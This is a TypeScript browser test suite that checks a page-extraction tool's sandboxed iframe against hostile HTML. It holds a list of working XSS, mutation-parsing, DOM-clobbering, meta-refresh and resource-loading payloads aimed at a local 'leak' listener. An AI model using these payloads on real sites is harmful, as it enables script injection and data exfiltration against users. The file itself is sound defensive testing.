import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, expect, it } from "vitest";
import { inChromium } from "./chromium.ts";
import { extract, leftTheBrowser, WebSession } from "./web-session.ts";

const session = new WebSession();
/** Whom a hostile page would call. Counts connections: a hint to connect sends no request. */
let listener: Server;
let connections = 0;

const TEXT = `<p>${"The ferry was late, and nobody on the pier minded very much. ".repeat(8)}</p>`;
/** The port is filled in when the listener has one. */
const OUT = "http://127.0.0.1:PORT/leak";

/** What a page could try against whoever looks at it, each beside some text. */
const HOSTILE: readonly [what: string, html: string][] = [
  ["a script", `<script>parent.touched = 1; alert(1); fetch("${OUT}")</script>`],
  ["a script in SVG", `<svg><script>parent.touched = 1</script><image href="${OUT}"/><use href="${OUT}#a"/></svg>`],
  ["handlers", `<img src=x onerror="parent.touched = 1"><body onload="parent.touched = 1"><svg onload="alert(1)">`],
  ["a handler that fires on focus", `<input autofocus onfocus="parent.touched = 1"><details open ontoggle="alert(1)">`],
  ["an attribute that closes our mark", `<p data-dechaff-at="1" title='"><script>parent.touched = 1</script>'>x</p>`],
  ["a mark of its own", `<dechaff-text data-dechaff-block="0" onmouseover="parent.touched = 1">x</dechaff-text>`],
  ["markup that two parsers read differently", `<noscript><p title="</noscript><img src=x onerror=parent.touched=1>">`],
  ["a style sheet that breaks out", `<style></style><script>parent.touched = 1</script></style>`],
  ["a comment that breaks out", `<!--><img src=x onerror=parent.touched=1>-->`],
  ["a refresh", `<meta http-equiv=refresh content="0;url=${OUT}"><meta http-equiv=refresh content="0;javascript:alert(1)">`],
  ["a policy of its own", `<meta http-equiv=content-security-policy content="script-src *"><script src="${OUT}"></script>`],
  ["frames and objects", `<iframe src="${OUT}"></iframe><object data="${OUT}"></object><embed src="${OUT}">`],
  ["a frame in a frame", `<iframe srcdoc="<script>top.touched = 1</script><img src='${OUT}'>"></iframe>`],
  ["hints to connect", `<link rel=preconnect href="${OUT}"><link rel=dns-prefetch href="//leak.test"><link rel=prefetch href="${OUT}">`],
  ["styles that load", `<link rel=stylesheet href="${OUT}"><style>@import "${OUT}"; body { background: url(${OUT}) } @font-face { font-family: x; src: url(${OUT}) } p { font-family: x }</style>`],
  ["images and media", `<img src="${OUT}" srcset="${OUT} 2x"><video autoplay src="${OUT}" poster="${OUT}"></video><audio src="${OUT}" autoplay></audio><picture><source srcset="${OUT}"><img></picture>`],
  ["a worker and a manifest", `<link rel=manifest href="${OUT}"><link rel=modulepreload href="${OUT}"><script type=speculationrules>{"prefetch":[{"urls":["${OUT}"]}]}</script>`],
  ["names that hide methods", `<img name=addEventListener><img name=querySelectorAll><img name=body><form name=head><input name=closest></form>`],
]; // biome-ignore format: one attack a line

inChromium("a hostile page", () => {
  beforeAll(async () => {
    listener = createServer((_, response) => response.end("leaked")).on("connection", () => connections++);
    await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
    await session.start();
  });
  afterAll(async () => {
    await session.stop();
    listener.close();
  });
  const named = (html: string) => html.replaceAll("PORT", String((listener.address() as AddressInfo).port));

  it.each(HOSTILE)("with %s can do nothing", async (_, html) => {
    const { page, requests, dialogs, errors, popups } = await session.open();
    await extract(page, `<title>Ferry</title>${named(html)}<article><h1>Ferry</h1>${TEXT}</article>`);
    const frame = page.frameLocator(".result iframe");
    await frame.locator("dechaff-text").last().hover();
    await page.waitForTimeout(150);
    expect({ dialogs, errors, popups }).toEqual({ dialogs: [], errors: [], popups: [] });
    expect(await page.evaluate(() => "touched" in globalThis)).toBe(false);
    expect(leftTheBrowser(requests).filter((url) => !url.startsWith(session.url))).toEqual([]);
    expect(connections).toBe(0);
    expect(page.url()).toBe(`${session.url}/`);
    expect(await page.locator(".result h2").textContent()).not.toBe("");
    await page.context().close();
  });

  it("cannot be left by its links, forms and base", async () => {
    const { page, requests, dialogs, popups } = await session.open();
    const links = [
      `<base href="${OUT}" target=_top>`,
      `<a href="${OUT}">Out of here</a> <a href="javascript:parent.touched=1">Script</a> <a href="/health" target=_self>Health</a>`,
      `<a href="${OUT}" target=_blank>Another tab</a> <a href="${OUT}" ping="${OUT}" download>Ping</a>`,
      `<form action="${OUT}"><button>Send</button><input type=submit value=Submit></form>`,
    ].join("");
    await extract(page, `<title>Ferry</title>${named(links)}<article><h1>Ferry</h1>${TEXT}</article>`);
    const frame = page.frameLocator(".result iframe");
    const before = requests.length;
    for (const name of ["Out of here", "Script", "Health", "Another tab", "Ping"])
      await frame.getByText(name, { exact: true }).click({ button: "left" });
    await frame.getByText("Out of here").click({ button: "middle" });
    await frame.getByText("Send").click();
    await frame.getByText("Another tab").click({ modifiers: ["Control"] });
    await page.waitForTimeout(200);
    expect(leftTheBrowser(requests.slice(before))).toEqual([]);
    expect(connections).toBe(0);
    expect({ dialogs, popups }).toEqual({ dialogs: [], popups: [] });
    expect(await page.evaluate(() => "touched" in globalThis)).toBe(false);
    await frame.getByText("Health").waitFor();
    await page.context().close();
  });

  it("is stopped by the browser, too, where our listeners do not see it", async () => {
    const { page, requests } = await session.open();
    await extract(page, `<title>Ferry</title><a id=out href="${OUT}">Out</a><article><h1>Ferry</h1>${TEXT}</article>`);
    const before = requests.length;
    const seen = await page.locator(".result iframe").evaluate(async (frame: HTMLIFrameElement) => {
      const inner = frame.contentDocument!;
      const script = inner.createElement("script");
      script.textContent = "parent.touched = 1";
      inner.body.append(script);
      const image = inner.createElement("img");
      image.src = "/health";
      inner.body.append(image);
      frame.contentWindow!.location.href = new URL("/health", location.origin).href;
      await new Promise((resolve) => setTimeout(resolve, 300));
      return "touched" in globalThis;
    });
    expect(seen).toBe(false);
    expect(leftTheBrowser(requests.slice(before))).toEqual([]);
    await page.context().close();
  });

  it("of ten thousand nested tags and a megabyte is shown", async () => {
    const { page, errors } = await session.open();
    await extract(page, `<title>Ferry</title>${"<div><b>".repeat(5000)}${TEXT.repeat(2000)}`);
    await page.frameLocator(".result iframe").locator("dechaff-text").first().waitFor();
    expect(errors).toEqual([]);
    await page.context().close();
  });
});
